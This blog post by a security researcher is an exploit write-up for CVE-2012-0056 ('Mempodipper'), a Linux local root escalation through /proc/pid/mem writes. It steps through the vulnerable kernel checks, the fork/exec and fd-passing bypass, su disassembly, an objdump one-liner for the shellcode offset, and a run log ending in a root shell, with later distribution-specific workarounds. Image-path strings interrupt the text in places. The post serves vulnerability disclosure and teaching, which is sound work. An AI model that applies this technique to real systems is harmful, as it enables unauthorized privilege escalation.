Linux Local Privilege Escalation via SUID /proc/pid/mem Write


Introducing Mempodipper, an exploit for CVE-2012-0056. /proc/pid/mem is an interface for reading and writing, directly, process memory by seeking around with the same addresses as the process's virtual memory space. In 2.6.39, the protections against unauthorized access to /proc/pid/mem were deemed sufficient, and so the prior #ifdef that prevented write support for writing to arbitrary process memory was removed. Anyone with the correct permissions could write to process memory. It turns out, of course, that the permissions checking was done poorly. This means that all Linux kernels >=2.6.39 are vulnerable, up until the fix commit for it a couple days ago. Let's take the old kernel code step by step and learn what's the matter with it.

When /proc/pid/mem is opened, this kernel code is called:

static int mem_open(struct inode* inode, struct file* file)
    file->private_data = (void*)((long)current->self_exec_id);
    /* OK to pass negative loff_t, we can catch out-of-range */
    file->f_mode |= FMODE_UNSIGNED_OFFSET;
    return 0;

There are no restrictions on opening; anyone can open the /proc/pid/mem fd for any process (subject to the ordinary VFS restrictions). It simply makes note of the original process's self_exec_id that it wasopened with and stores this away for checking later during reads and writes.

Writes (and reads), however, have permissions checking restrictions. Let's take a look at the write function:

static ssize_t mem_write(struct file * file, const char __user *buf,
             size_t count, loff_t *ppos)

/* unimportant code removed for blog post */

    struct task_struct *task = get_proc_task(file->f_path.dentry->d_inode);

/* unimportant code removed for blog post */

    mm = check_mem_permission(task);
    copied = PTR_ERR(mm);
    if (IS_ERR(mm))
        goto out_free;

/* unimportant coderemoved for blog post */

    if(file->private_data != (void *)((long)current->self_exec_id))
        goto out_mm;

/* unimportant code removed for blog post
 * (the function here goes onto write the buffer into the memory)

So there are two relevant checks in place to prevent against unauthorized writes: check_mem_permission and self_exec_id. Let's do the first one first and second onesecond.

The code of check_mem_permission simply calls into __check_mem_permission, so here's the code of that:

static struct mm_struct *__check_mem_permission(struct task_struct *task)
    struct mm_struct *mm;

    mm = get_task_mm(task);
    if (!mm)
        return ERR_PTR(-EINVAL);

     * A task can always look at itself, in case it chooses
     * to use system calls instead of load instructions.
    if (task == current)return mm;

     * If current is actively ptrace'ing, and would also be
     * permitted to freshly attach with ptrace now, permit it.
    if (task_is_stopped_or_traced(task)) {
        int match;
        match = (ptrace_parent(task) == current);
        if (match && ptrace_may_access(task, PTRACE_MODE_ATTACH))
            return mm;

     * No one else is allowed.
    return ERR_PTR(-EPERM);There are two ways that the memory write is authorized. Either task == current, meaning that the process being written to is the process writing, or current (the process writing) has esoteric ptrace-level permissions to play with task (the process being written to). Maybe you think you can trick the ptrace code? It's tempting. But I don't know. Let's instead figure out how we can make a process write arbitrary memory to itself, so that task == current.

Now naturally, we want to write into the memory of suid processes, since then we can get root. Take a look at this:

$ su "yeeeee haw I am a cowboy"
Unknown id: yeeeee haw I am a cowboy

su will spit out whatever text you want onto stderr, prefixed by"Unknown id:". So, we can open a fd to /proc/self/mem, lseek to the right place in memory for writing (more on that later), use dup2 to couple together stderr and the mem fd, and then exec to su $shellcode to write an shell spawner to the process memory, and then we have root. Really? Not so easy.

Here the other restriction comes into play. After it passes the task == current test, it then checks to see if the current self_exec_id matches the self_exec_id that the fd was opened with. What on earth is self_exec_id? It's only referenced a few places in the kernel. The most important one happens to be inside of exec:

void setup_new_exec(struct linux_binprm * bprm)
/* massive amounts of code trimmed for the purpose of this blog post */

    /* An exec changes our domain. We are no longer part of the thread
       group */


    flush_signal_handlers(current, 0);

self_exec_id is incremented each time a process execs. Soin this case, it functions so that you can't open the fd in a non-suid process, dup2, and then exec to a suid process... which is exactly what we were trying to do above. Pretty clever way of deterring our attack, eh?

Here's how to get around it. We fork a child, and inside of that child, we exec to a new process. The initial child fork has a self_exec_id equal to its parent. When we exec to a new process, self_exec_id increments by one. Meanwhile, the parent itself is busy execing to our shellcode writing su process, so its self_exec_id gets incremented to the same value. So what we do is -- we make this child fork and exec to a new process, and inside of that new process, we open up a fd to /proc/parent-pid/mem using the pid of the parent process, not our own process (as was the case prior). We can open the fd likethis because there is no permissions checking for a mere open. When it is opened, its self_exec_id has already incremented to the right value that the parent's self_exec_id will be when we exec to su. So finally, we pass our opened fd from the child process back to the parent process (using some very black unix domain sockets magic), do our dup2ing, and exec into su with the shell code.

There is one remaining objection. Where do we write to? We have to lseek to the proper memory location before writing, and ASLR randomizes processes address spaces making it impossible to know where to write to. Should we spend time working on more cleverness to figure out how to read process memory, and then carry out a search? No. Check this out:

$ readelf -h /bin/su | grep Type
   Type:                              EXEC (Executable file)

This means that su does not have a relocatable .text section (otherwise it would spit out "DYN" instead of "EXEC"). It turns out that su on the vast majority of distros is not compiled with PIE, disabling ASLR for the .text section of the binary! So we've chosen su wisely. The offsets in memory will always be the same. So to find the right place to write to, let's check out the assembly surrounding the printing of the "Unknown id: blabla" error message.

It gets the error string here:

  403677:       ba 05 00 00 00          mov    $0x5,%edx
  40367c:       be ff 64 40 00          mov    $0x4064ff,%esi403681:       31 ff                   xor    %edi,%edi
  403683:       e8 e0 ed ff ff          callq  402468 (dcgettext@plt)

And then writes it to stderr:

  403688:       48 8b 3d 59 51 20 00    mov    0x205159(%rip),%rdi        # 6087e8 (stderr)
  40368f:       48 89 c2                mov    %rax,%rdx
  403692:       b9 20 88 60 00          mov    $0x608820,%ecx
  403697:       be 01 00 00 00          mov    $0x1,%esi
  40369c:       31 c0                   xor    %eax,%eax
  40369e:       e8 75 ea ff ff          callq  402118 (__fprintf_chk@plt)

Closes the log:

  4036a3:       e8 f0 eb ff ff          callq  402298 (closelog@plt)

And then exits the program:

  4036a8:       bf 01 00 00 00          mov    $0x1,%edi
  4036ad:       e8 c6 ea ff ff          callq  402178 (exit@plt)

We therefore want to use 0x402178, which is the exit function it calls. We can, in an exploit, automate the finding of the exit@plt symbol with a simple bash one-liner:

$ objdump -d /bin/su|grep '<exit@plt>'|head -n 1|cut -d ' ' -f 1|sed 's/^[0]*\([^0]*\)/0x\1/'

So naturally, we want to write to 0x402178 minus the number of letters in the string "Unknown id: ", so that our shellcode is placed at exactly the right place.

The shellcode should be simple and standard. It sets the uid and gid to 0 and execs into a shell. If we want to be clever, we can reopen stderr by, prior to dup2ing the memory fd to stderr, we choose another fd to dup stderr to, and then in the shellcode, we dup2 that other fd back to stderr.

In the end, the exploit works like a charm with total reliability:

CVE-2012-0056 $ ls
build-and-run-exploit.sh  build-and-run-shellcode.sh  mempodipper.c  shellcode-32.sshellcode-64.s
CVE-2012-0056 $ gcc mempodipper.c -o mempodipper
CVE-2012-0056 $ ./mempodipper
=          Mempodipper        =
=           by zx2c4          =
=         Jan 21, 2012        =

[+] Waiting for transferred fd in parent.
[+] Executing child from child fork.
[+] Opening parent mem /proc/6454/mem in child.
[+] Sending fd 3 to parent.
[+] Received fd at 5.
[+] Assigning fd 5 to stderr.
[+] Reading su for exit@plt.
[+] Resolved exit@plt to 0x402178.
[+] Seeking to offset 0x40216c.[+] Executing su with shellcode.
sh-4.2# whoami

You can watch a video of it in action.

Thanks to Dan Rosenberg for his continued advice and support. I'm currently not releasing any source code, as Linus only very recently patched it. After a responsible amount of time passes or if someone else does first, I'll publish. If you're a student trying to learn about things or have otherwise legitimate reasons, we cantalk.

Update: evidently, based on this blog post, ironically, some other folks made exploits and published them. So, here's mine. I wrote the shellcode for 32-bit and 64-bit by hand. Enjoy!

Update 2: as it turns out, Fedora very aptly compiles their su with PIE, which defeats this attack. They do not, unfortunately, compile all their SUID binaries with PIE, and so this attack is still possible with, for example, gpasswd. The code to do this is in the "fedora" branch of the git repository, and a video demonstration is also available.

Update 3: Gentoo is smart enough to remove read permissions on SUID binaries, making it impossible to find the exit@plt offset using objdump. I determined another way to do this, using ptrace. Ptrace allows debugging of any program in memory. For SUID programs, ptracing will drop its privileges, but that's fine, since we simply want tofind internal memory locations. By parsing the opcode of the binary at the right time, we can decipher the target address of the next call after the printing of the error message. I've created a standalone utility that returns the offset, as well as integratingit into the main mempodippersource.

{As always, this is work here is strictly academic, and is not intendedfor use beyond research and education.}